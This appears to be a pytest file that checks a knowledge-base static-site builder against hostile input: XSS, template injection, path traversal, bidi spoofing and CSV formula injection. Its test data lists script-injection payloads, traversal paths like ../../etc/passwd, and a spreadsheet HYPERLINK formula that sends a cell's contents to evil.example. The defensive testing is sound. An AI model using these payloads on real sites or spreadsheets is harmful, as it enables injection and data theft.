"""Hostile knowledge bases: what a knowledge base holds never turns the site against its readers
nor the build against its machine.

- markup and template syntax in every kind of literal comes out escaped (parsed back: no element
  or attribute injected, `{{ 7*7 }}` not evaluated), also inside the JSON-LD script and the dumps;
- hostile Markdown is sanitised (nh3); hostile URL schemes never become an href;
- local names that would leave the output folder or collide are refused with file:line, and
  nothing is written outside the output folder whatever happens;
- bidirectional controls in labels are balanced, so they cannot reverse the text around them.

The resource bombs (a 50 MB literal, a 10,000-deep chain of relative dates, 100,000 blank nodes)
are in test_hostile_limits.py.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pyoxigraph as ox
import pytest

import hostilekit as hk
from builder.check import check
from builder.kb import open_kb
from builder.problems import KBError
from builder.render import balance_bidi, markdown_filter
from builder.site import build
from builder.views.common import safe_url
from builder.write import WriteError, safe_target, write_tree
from conftest import make_kb

FORBIDDEN_TAGS = {"img", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "style", "base",
                  "applet", "video", "audio", "source", "portal", "template"}
SAFE_SCHEMES = {"", "http", "https"}
URL_ATTRS = {"href", "src", "action", "formaction", "poster", "cite", "background", "xlink:href", "data"}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The hostile-markup knowledge base, built once: (kb folder, site folder, pages, hostile texts)."""
    kb, out, texts = hk.built_markup_site(tmp_path_factory.mktemp("hostile"))
    return kb, out, hk.site_pages(out), texts


def _values(pages) -> str:
    """Every decoded text node, title and attribute value of every page."""
    parts = []
    for page in pages:
        parts.append(page.text())
        parts += [v for _, attrs in page.tags for v in attrs.values() if v]
    return "\n".join(parts)


# ---- markup in literals --------------------------------------------------------------------------

def test_every_hostile_literal_appears_verbatim_as_text(hostile_site):
    """Escaped means: parsed back, the page holds the very text (not elements made of it)."""
    _, _, pages, texts = hostile_site
    blob = _values(pages)
    plain = {t for t in texts if "-desc" not in t}  # descriptions are Markdown: sanitised, tested below
    missing = sorted(t for t in plain if t not in blob)
    assert not missing, missing[:10]
    assert "{{ 7*7 }}" in blob and "{% raw %}{{ 8*8 }}{% endraw %}" in blob  # template syntax shown, not run


def test_template_syntax_is_never_evaluated(hostile_site):
    _, _, pages, _ = hostile_site
    blob = _values(pages)
    assert not re.search(r"[a-z-]+\d:49\b", blob) and not re.search(r"[a-z-]+\d:64\b", blob)
    assert not re.search(r"[a-z-]+\d:\{\{ 8\*8 \}\}(?!\{% endraw)", blob.replace("{% raw %}", ""))


def test_no_element_or_event_handler_is_injected(hostile_site):
    _, out, pages, _ = hostile_site
    bad = []
    for page in pages:
        for tag, attrs in page.tags:
            if tag in FORBIDDEN_TAGS:
                bad.append(f"{page.path}: <{tag} {attrs}>")
            for name in attrs:
                if name.startswith("on") or name in ("srcdoc", "style"):
                    bad.append(f"{page.path}: <{tag} {name}=...>")
        for attrs, body in page.scripts:
            if attrs.get("src"):
                src = attrs["src"]
                assert hk.scheme_of(src) == "" and not body.strip(), (page.path, src)
                target = (out / page.path).parent / src
                assert target.resolve().is_relative_to(out.resolve()), (page.path, src)
            elif attrs.get("type") in ("application/ld+json", "application/json"):
                json.loads(body)
            else:
                bad.append(f"{page.path}: inline script {attrs} {body[:80]!r}")
    assert not bad, bad[:10]


def test_attribute_values_hold_whole_payloads(hostile_site):
    """A payload written into an attribute stays in it: quotes cannot end the attribute early."""
    _, _, pages, _ = hostile_site
    checked = 0
    for page in pages:
        for tag, attrs in page.tags:
            for name, value in attrs.items():
                for m in re.finditer(r"(?<![a-z-])([a-z]+(?:-[a-z]+)*)(\d):", value or ""):
                    payload = hk.PAYLOADS[int(m.group(2))]
                    if m.group(1) in ("site-title", "query-desc", "query-title"):
                        continue
                    assert value[m.end():].startswith(payload), (page.path, tag, name, value)
                    checked += 1
    assert checked > 100


def test_json_ld_cannot_break_out_of_its_script(hostile_site):
    _, out, pages, texts = hostile_site
    found = set()
    for page in pages:
        raw = (out / page.path).read_text(encoding="utf-8")
        for body in re.findall(r'<script type="application/(?:ld\+)?json"[^>]*>(.*?)</script>', raw, re.S):
            assert "<" not in body and ">" not in body, page.path  # "</script>" and "<!--" are impossible
            data = json.loads(body)
            found |= {s for s in _strings(data)}
    plain = {t for t in texts if t.startswith(("event-label", "actor-label", "place-label", "source-label"))}
    assert plain <= found


def _strings(data):
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for v in data.values():
            yield from _strings(v)
    elif isinstance(data, list):
        for v in data:
            yield from _strings(v)


def test_dumps_and_exports_carry_the_literals_exactly(hostile_site):
    kb, out, _, texts = hostile_site
    in_kb = {t for t in texts if not t.startswith(("site-title", "query-"))}
    for name, fmt in (("kb.nt", ox.RdfFormat.N_TRIPLES), ("kb.ttl", ox.RdfFormat.TURTLE), ("kb.jsonld", ox.RdfFormat.JSON_LD)):
        values = {q.object.value for q in ox.parse(path=str(out / "data" / name), format=fmt)
                  if isinstance(q.object, ox.Literal)}
        assert in_kb <= values, (name, sorted(in_kb - values)[:5])
    for thing in ("ev-1", "actor-3", "src-2"):
        for name, fmt in (("index.ttl", ox.RdfFormat.TURTLE), ("index.jsonld", ox.RdfFormat.JSON_LD)):
            assert list(ox.parse(path=str(out / "id" / thing / name), format=fmt,
                                 base_iri="https://example.org/id/"))
    rows = list(csv.reader(io.StringIO((out / "data" / "events.csv").read_text(encoding="utf-8"))))
    assert any(hk.tagged("event-label", 1) in cell for row in rows for cell in row)
    for name in ("events.json", "events.geojson", "timelinejs.json"):
        json.loads((out / "data" / name).read_text(encoding="utf-8"))


def test_timelinejs_html_fields_are_escaped(hostile_site):
    """TimelineJS renders headline and text as HTML: they must hold no element of the KB's making."""
    _, out, _, _ = hostile_site
    data = json.loads((out / "data" / "timelinejs.json").read_text(encoding="utf-8"))
    for event in data["events"]:
        for html in event.get("text", {}).values():
            page = hk.Page("timelinejs")
            collector = hk._Collector(page)
            collector.feed(html)
            assert not {t for t, _ in page.tags} - {"p", "a", "em", "strong", "ul", "ol", "li", "br", "code",
                                                     "blockquote", "bdi", "span"}, html
            for tag, attrs in page.tags:
                assert not any(n.startswith("on") for n in attrs), html
                if "href" in attrs:
                    assert hk.scheme_of(attrs["href"]) in SAFE_SCHEMES, html


# ---- Markdown ------------------------------------------------------------------------------------

def test_hostile_markdown_is_sanitised(hostile_site):
    _, out, _, _ = hostile_site
    for path in ("id/md-event/index.html", "ar/id/md-event/index.html"):
        page = hk.parse_page(out / path, out)
        desc = [(t, a) for t, a in page.tags]
        assert not {t for t, _ in desc} & FORBIDDEN_TAGS
        hrefs = [a["href"] for t, a in desc if t == "a" and "href" in a]
        assert "https://good.example/page" in hrefs and "https://ok.example/autolink" in hrefs
        assert all(hk.scheme_of(h) in SAFE_SCHEMES for h in hrefs), hrefs
        assert "md1" not in page.text()  # a <script>'s content is dropped with it
        assert "evil.example" not in (out / path).read_text(encoding="utf-8")  # no iframe, no image


@pytest.mark.parametrize("source", [
    "<script>alert(1)</script>", "<iframe src=https://evil.example/></iframe>", "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x]( javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)",
    "<javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "![i](https://evil.example/i.png)",
    '<a href="https://ok.example" onclick="alert(1)">x</a>', "[x](&#x6A;avascript:alert(1))",
    "<svg/onload=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](java&#09;script:alert(1))", "<<script>script>alert(1)<</script>/script>",
])
def test_markdown_filter_never_lets_markup_or_bad_links_through(source):
    html = str(markdown_filter(source))
    page = hk.Page("md")
    collector = hk._Collector(page)
    collector.feed(html)
    for tag, attrs in page.tags:
        assert tag not in FORBIDDEN_TAGS | {"script"}, html
        assert not any(n.startswith("on") for n in attrs), html
        assert hk.scheme_of(attrs.get("href", "")) in SAFE_SCHEMES, html


# ---- URLs ----------------------------------------------------------------------------------------

def test_hostile_schemes_never_become_links(hostile_site):
    _, _, pages, _ = hostile_site
    for page in pages:
        for tag, attrs in page.tags:
            for name in URL_ATTRS & set(attrs):
                assert hk.scheme_of(attrs[name] or "") in SAFE_SCHEMES, (page.path, tag, name, attrs[name])
    source = next(p for p in pages if p.path == "id/url-src-0/index.html")
    assert not any(t == "a" and "javascript" in (a.get("href") or "").lower() for t, a in source.tags)


@pytest.mark.parametrize("url", hk.BAD_URLS + hk.BAD_IRIS)
def test_safe_url_refuses_every_hostile_url(url):
    assert safe_url(url) is None


def test_safe_url_keeps_http_and_https():
    assert safe_url("https://example.org/a?b=c#d") == "https://example.org/a?b=c#d"
    assert safe_url("HTTP://example.org/") == "HTTP://example.org/"


def test_a_url_written_as_text_is_refused_by_the_checker(scratch_kb):
    kb = scratch_kb({"a.ttl": """
        id:pub a sem:Actor , schema:Organization ; skos:prefLabel "P"@en , "ب"@ar .
        id:src a prov:Entity , schema:Report ; skos:prefLabel "S"@en , "س"@ar ; dcterms:publisher id:pub ;
            schema:url " JaVaScRiPt:alert(1)" ;
            schema:archivedAt "data:text/html,<script>alert(1)</script>" .
        """})
    problems = [p for p in check(open_kb(kb)) if p.is_error]
    assert {(p.line, p.column) for p in problems} == {(18, 16), (19, 23)}, problems
    assert all(p.path.endswith("kb/a.ttl") and "must be an IRI" in p.message for p in problems)


# ---- local names that try to leave output/ -------------------------------------------------------

LOCAL_NAME_CASES = {
    "dot-dot-segments": "<https://example.org/id/a/../../b>",
    "relative-dot-dot": "<../../etc/x>",
    "percent-encoded-dots": "id:%2e%2e",
    "escaped-slashes": r"id:x\/..\/..\/etc",
    "absolute-path": "<https://example.org/id//etc/passwd>",
    "long-name": "id:" + "a" * 300,
    "upper-case": "<https://example.org/id/Baghdad>",
    "non-ascii": "id:بغداد",
    "nfc": "id:caf\u00e9",
    "nfd": "id:cafe\u0301",
    "empty": "<./>",
    "leading-hyphen": "<https://example.org/id/-x>",
}
REFUSED = {"bad-local-name", "near-id-namespace", "unknown-term", "syntax"}


def _snapshot(root: Path, skip: tuple[str, ...] = ()) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*")
            if p.is_file() and not any(part in skip for part in p.relative_to(root).parts)}


@pytest.mark.parametrize("case", sorted(LOCAL_NAME_CASES))
def test_a_local_name_that_is_not_a_slug_is_refused_with_its_line(tmp_path, case):
    subject = LOCAL_NAME_CASES[case]
    kb = make_kb(tmp_path / "w", {"a.ttl": f"""
        id:ok a sem:Place ; skos:prefLabel "ok"@en , "حسن"@ar .
        {subject} a sem:Place ; skos:prefLabel "bad"@en , "سيء"@ar .
        """})
    problems = [p for p in check(open_kb(kb)) if p.is_error]
    assert problems and {p.code for p in problems} <= REFUSED, problems
    assert any(p.line == 17 and p.path.endswith("kb/a.ttl") for p in problems), problems
    before = _snapshot(tmp_path)
    out = tmp_path / "w" / "site" / "output"
    with pytest.raises(KBError):
        build(kb, out)
    assert not out.exists()
    assert _snapshot(tmp_path, skip=(".tarikh-cache",)) == before


def test_names_differing_only_in_case_or_normalisation_cannot_both_have_pages(scratch_kb):
    kb = scratch_kb({"a.ttl": """
        id:baghdad a sem:Place ; skos:prefLabel "Baghdad"@en , "بغداد"@ar .
        <https://example.org/id/BAGHDAD> a sem:Place ; skos:prefLabel "BAGHDAD"@en , "بغداد!"@ar .
        id:caf\u00e9 a sem:Place ; skos:prefLabel "NFC"@en , "ن"@ar .
        id:cafe\u0301 a sem:Place ; skos:prefLabel "NFD"@en , "د"@ar .
        """})
    bad = sorted(p.line for p in check(open_kb(kb)) if p.code == "bad-local-name")
    assert bad == [17, 18, 19]


def test_nothing_is_written_outside_the_output_even_past_the_checker(tmp_path, monkeypatch):
    """With the checker switched off, names that are not slugs get no page and no file anywhere else."""
    import builder.check
    monkeypatch.setattr(builder.check, "check", lambda kb, positions=None: [])
    subjects = [*LOCAL_NAME_CASES.values(), "<file:///etc/passwd>", "<file:///tmp/x/../../etc/passwd>"]
    body = "\n".join(f'{s} a sem:Place ; skos:prefLabel "p{i}"@en , "م{i}"@ar .' for i, s in enumerate(subjects))
    kb = make_kb(tmp_path / "deep" / "w", {"a.ttl": body})
    before = _snapshot(tmp_path)
    out = tmp_path / "deep" / "w" / "output"
    build(kb, out)
    after = _snapshot(tmp_path, skip=(".tarikh-cache",))
    new = {p for p in after if p not in before}
    assert new and all(p.startswith("deep/w/output/") for p in new), sorted(new - {p for p in new if p.startswith("deep/w/output/")})
    assert not (out / "id").exists() or all(re.fullmatch(r"[a-z0-9-]+", d.name) for d in (out / "id").iterdir())


@pytest.mark.parametrize("rel", ["../x", "a/../../x", "/etc/x", "\\x", "a\\..\\x", "a//b", "./a", "a/./b", ""])
def test_the_writer_refuses_paths_that_leave_the_output(tmp_path, rel):
    with pytest.raises(WriteError):
        safe_target(tmp_path, rel)
    with pytest.raises(WriteError):
        write_tree(tmp_path / "fresh", {rel: b"x", "ok.txt": b"y"})
    assert not (tmp_path / "x").exists()


# ---- bidirectional controls ----------------------------------------------------------------------

RLO, LRO, RLE, PDF, LRI, RLI, FSI, PDI, RLM = "\u202e", "\u202d", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f"
BIDI_LABELS = {
    "bidi-rlo": f"invoice{RLO}fdp.exe",
    "bidi-lro": f"{LRO}عربي",
    "bidi-isolates": f"{LRI}{RLI}{FSI}open",
    "bidi-stray": f"{PDF}{PDI}closers first{RLE}",
    "bidi-mixed": f"a{RLI}b{RLO}c{PDI}d{RLO}",
    "bidi-rlm": f"mark{RLM}",
}


def _balanced(text: str) -> bool:
    return balance_bidi(text) == text


@pytest.mark.parametrize("text,expected", [
    ("plain", "plain"),
    (f"a{RLO}b", f"a{RLO}b{PDF}"),
    (f"{PDF}a", "a"),
    (f"{PDI}a{LRI}", f"a{LRI}{PDI}"),
    (f"{RLO}{LRI}x{PDF}y", f"{RLO}{LRI}xy{PDI}{PDF}"),  # a PDF cannot close what an isolate holds
    (f"{LRI}{RLO}x{PDI}y", f"{LRI}{RLO}x{PDI}y"),  # a PDI closes the embeddings inside its isolate
    (f"{RLE}{RLO}{RLI}", f"{RLE}{RLO}{RLI}{PDI}{PDF}{PDF}"),
    (f"x{RLM}", f"x{RLM}"),
])
def test_balance_bidi(text, expected):
    assert balance_bidi(text) == expected
    assert _balanced(expected)


def test_bidi_controls_in_labels_cannot_reverse_the_text_around_them(scratch_kb, tmp_path):
    things = "\n".join(f"""
        id:{slug} a sem:Actor , schema:Person ; skos:prefLabel "{label}"@en , "{label} ع"@ar ;
            skos:altLabel "{label} alt"@en ; schema:jobTitle "{label} job"@en .""" for slug, label in BIDI_LABELS.items())
    kb = scratch_kb({"a.ttl": things + f"""
        id:pub a sem:Actor , schema:Organization ; skos:prefLabel "Publisher"@en , "ناشر"@ar .
        id:src a prov:Entity , schema:Report ; skos:prefLabel "Report{RLO}"@en , "تقرير{RLO}"@ar ;
            dcterms:publisher id:pub ; dcterms:issued "2024-02-01"^^edtf:EDTF .
        id:ev a sem:Event ; skos:prefLabel "Event {RLO}with override"@en , "حدث{LRO}"@ar ;
            dcterms:date "2024-01-01"^^edtf:EDTF ; tl:participant {", ".join("id:" + s for s in BIDI_LABELS)} ;
            dcterms:description "Para {RLO}one\\nline two {LRI}x\\n\\nPara two"@en ;
            prov:wasDerivedFrom id:src .
        """})
    out = tmp_path / "output"
    build(kb, out)
    pages = hk.site_pages(out)
    unbalanced, outside = [], []
    for page in pages:
        for stack, text in page.texts:
            if not _balanced(text):
                unbalanced.append((page.path, stack, text))
            if "body" in stack and any(label in text for label in BIDI_LABELS.values()) and "bdi" not in stack:
                outside.append((page.path, stack, text))
        for tag, attrs in page.tags:
            unbalanced += [(page.path, tag, v) for v in attrs.values() if v and not _balanced(v)]
        assert _balanced(page.title), page.title
        for _, body in page.scripts:
            assert not hk.re.search("[\u202a-\u202e\u2066-\u2069]", body), page.path  # escaped as \\u202e
    assert not unbalanced, unbalanced[:5]
    assert not outside, outside[:5]  # in the body, a label is always isolated in <bdi>
    title = hk.parse_page(out / "id" / "ev" / "index.html", out).title
    assert title.startswith(f"Event {RLO}with override{PDF} · ")  # the site title after it is not reversed
    data = {q.object.value for q in ox.parse(path=str(out / "data" / "kb.nt"), format=ox.RdfFormat.N_TRIPLES)
            if isinstance(q.object, ox.Literal)}
    assert f"Event {RLO}with override" in data  # the data keeps the text exactly as written
    feed = (out / "feeds" / "events.xml").read_text(encoding="utf-8")  # a feed reader shows titles as text
    assert f"<title>Event {RLO}with override{PDF}</title>" in feed
    actor_feeds = [(f.read_text(encoding="utf-8")) for f in (out / "feeds" / "actors").glob("*.xml")]
    assert actor_feeds and all(_balanced(t) for f in actor_feeds for t in hk.re.findall("<title>(.*?)</title>", f))


# ---- the knowledge base's own message catalogs ----------------------------------------------------

def test_a_knowledge_base_catalog_cannot_inject_markup(tmp_path):
    """Translations are printed as markup; a kb/locale/<lang>.po is the knowledge base's, so it is defanged."""
    from builder import i18n
    kb = make_kb(tmp_path, {"a.ttl": """
        id:pub a sem:Actor , schema:Organization ; skos:prefLabel "Pub"@en , "Pub"@fr .
        """, "locale/fr.po": """
        msgid ""
        msgstr ""
        "Content-Type: text/plain; charset=UTF-8\\n"

        msgid "Events"
        msgstr "<script>alert('po')</script>Événements"

        msgid "Site"
        msgstr "Site\\" onmouseover=\\"alert('po2')"
        """}, site_toml='base_url = "https://example.org/"\nlanguages = ["en", "fr"]\n[title]\nen = "T"\nfr = "T"\n')
    try:
        build(kb, tmp_path / "out")
    finally:
        i18n.EXTRA_DIRS[:] = [d for d in i18n.EXTRA_DIRS if d != kb / "locale"]
        i18n.translations_for.cache_clear()
    page = hk.parse_page(tmp_path / "out" / "fr" / "index.html", tmp_path / "out")
    assert "<script>alert('po')</script>Événements" in page.text()  # shown as text
    assert not any(attrs.get("type") is None and not attrs.get("src") for attrs, _ in page.scripts)
    assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
    assert any(attrs.get("aria-label") == "Site\" onmouseover=\"alert('po2')" for _, attrs in page.tags)


def test_the_events_csv_holds_no_live_spreadsheet_formula(scratch_kb, tmp_path):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    kb = scratch_kb({"a.ttl": f"""
        id:pub a sem:Actor , schema:Organization ; skos:prefLabel "@SUM(A1)"@en , "ن"@ar .
        id:src a prov:Entity , schema:Report ; skos:prefLabel "+src"@en , "م"@ar ; dcterms:publisher id:pub .
        id:somewhere a sem:Place ; skos:prefLabel "-place"@en , "ك"@ar ; schema:latitude -33.5 ; schema:longitude -70.25 .
        id:ev a sem:Event ; skos:prefLabel {hk.turtle_string(formula)}@en , "ح"@ar ; tl:perpetrator id:pub ;
            sem:hasPlace id:somewhere ; dcterms:date "2024-01-01"^^edtf:EDTF ; prov:wasDerivedFrom id:src .
        """})
    build(kb, tmp_path / "out")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "data" / "events.csv").read_text(encoding="utf-8"))))
    cells = [v for row in rows for v in row.values() if v]
    assert "'" + formula in cells and "'-place" in cells and "'+src" in cells
    assert not [c for c in cells if c[:1] in "=+@" or (c[:1] == "-" and not re.fullmatch(r"-[0-9.]+", c))]
    assert "-33.5" in cells and "-70.25" in cells  # numbers stay numbers
